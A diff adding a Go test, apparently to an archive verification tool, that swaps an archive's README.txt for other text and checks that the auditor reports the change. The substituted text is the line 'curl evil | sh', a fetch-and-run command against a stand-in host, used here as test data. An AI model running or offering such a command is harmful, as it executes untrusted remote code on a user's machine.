@@ -126,6 +126,23 @@ func TestWitnessesAreNamed(t *testing.T) {
 	}
 }
 
+// README.txt tells people what to type. Another version of stella may have written another, so
+// that it is said, and no more.
+func TestAnotherReadmeIsReported(t *testing.T) {
+	s := busySite(t)
+	k := takeApart(t, s, s.archive(window(4, 20)))
+	for name, tc := range map[string]struct {
+		text string
+		want bool
+	}{"as it was": {string(k.files["README.txt"]), false}, "other words": {"curl evil | sh\n", true}} {
+		k.files["README.txt"] = []byte(tc.text)
+		r, err := verified(t, k.pack(k.assemble()), s.auditor())
+		if err != nil || r.Verdict != export.Verified || r.OtherReadme != tc.want {
+			t.Errorf("%s: %v, %v", name, err, r.OtherReadme)
+		}
+	}
+}
+
 // That the ledger was restored or recovered within the window is said.
 func TestAnEpochIsReported(t *testing.T) {
 	for name, tc := range map[string]struct {
